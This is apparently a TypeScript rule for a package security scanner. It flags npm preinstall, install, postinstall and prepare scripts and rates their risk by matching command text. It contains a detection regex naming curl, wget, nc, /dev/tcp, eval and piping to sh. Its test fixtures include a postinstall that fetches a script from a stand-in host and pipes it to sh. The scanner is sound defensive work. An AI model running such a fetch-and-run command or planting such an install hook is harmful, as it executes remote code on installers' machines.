import type { RiskLevel } from '../../../../core/review/risk.ts';
import type { Hit, Rule, SourceFile } from '../../../rule.ts';
import { lineOfName } from './read-dependencies.ts';
import { readPackageJson } from './read-package-json.ts';

/** Scripts that npm runs at whoever installs the package, or its source. */
const AT_INSTALL = new Set(['preinstall', 'install', 'postinstall']);
const AT_BUILD = new Set(['prepare', 'prepublish', 'preprepare', 'postprepare']);

/** Well-known build steps and developers' hooks. */
const ORDINARY = /^(?:(?:is-ci|node is-ci\.js)?[ |&]{0,6})?(?:npx |yarn |pnpm |bun )?(?:node-gyp(?:-build)?|prebuild-install|node-pre-gyp|cmake-js|husky|lefthook|simple-git-hooks|patch-package|tsc|tsup|rimraf|shx|npm run|npm ci|yarn|pnpm|bun run|lerna|turbo|nx|run-s|run-p|vite|rollup|esbuild|playwright install|prisma generate|only-allow|opencollective|electron-builder install-app-deps|nuxt prepare|wrangler|svelte-kit sync)\b[^;`$]{0,300}$/;
/** Code in the command itself, what comes from the network, and what is decoded first. */
const DANGEROUS = /\b(?:curl|wget|invoke-webrequest|iwr|powershell|pwsh|nc|ncat|bash -c|sh -c|base64|eval|certutil|mshta|osascript)\b|https?:\/\/|\/dev\/tcp|\bnode (?:-e|--eval|-p)\b|\bpython3? -c\b|\|\s{0,5}(?:ba|z)?sh\b/i;

function* check(file: SourceFile): Iterable<Hit> {
  const manifest = readPackageJson(file);
  if (manifest === null || manifest === 'unreadable') return;
  for (const [name, command] of manifest.scripts) {
    const severity = judge(name, command);
    if (severity === null) continue;
    const line = lineOfName(file, name);
    yield { line, endLine: line, severity, message: `The script ${name} runs by itself when the package is installed${AT_BUILD.has(name) ? ' from its source' : ''}.`, evidence: `"${name}": ${JSON.stringify(command.slice(0, 400))}` };
  }
}

function judge(name: string, command: string): RiskLevel | null {
  const isAtBuild = AT_BUILD.has(name);
  if (!isAtBuild && !AT_INSTALL.has(name)) return null;
  if (DANGEROUS.test(command)) return isAtBuild ? 'medium' : 'high';
  if (isAtBuild) return null;
  return ORDINARY.test(command.trim()) ? 'info' : 'medium';
}

export const installScript: Rule = {
  id: 'install-script',
  title: 'A script that runs at installation',
  severity: 'high',
  why: 'It runs with all rights of whoever installs the package, before anybody has read a line: most malicious packages begin here.',
  mend: 'Do without it, or do at the first use what it does. Install with scripts off.',
  matches: [
    { path: 'package.json', text: '{"scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}', severity: 'high' },
    { path: 'package.json', text: '{"scripts":{"preinstall":"node -e \\"require(\'https\')\\""}}', severity: 'high' },
    { path: 'package.json', text: '{"scripts":{"postinstall":"node scripts/setup.js"}}', severity: 'medium' },
    { path: 'package.json', text: '{"scripts":{"install":"node-gyp rebuild"}}', severity: 'info' },
  ],
  ignores: [
    { path: 'package.json', text: '{"scripts":{"build":"tsc","start":"node dist/index.js","prepare":"husky","postbuild":"curl https://x.example"}}' },
    { path: 'package.json', text: '{"scripts": 7' },
  ],
  check,
};
